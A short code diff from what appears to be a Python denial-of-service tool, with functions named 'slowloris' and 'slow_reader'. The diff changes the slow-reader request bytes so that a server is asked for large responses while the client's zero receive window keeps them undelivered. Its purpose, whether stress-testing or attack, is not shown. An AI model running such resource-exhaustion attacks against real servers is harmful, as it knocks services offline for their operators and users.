@@ -200,7 +200,7 @@ def slowloris(target: Target, end: float) -> Counts:
 
 def slow_reader(target: Target, end: float) -> Counts:
     """Calls for the largest answers, of which not one byte is let through: a window of zero."""
-    request = b"\x12" + b"\0"
+    request = b"\x10\xe8\x07"  # a page of 1,000
 
     def attack(of: Target, until: float) -> Counts:
         counts: Counts = Counter()
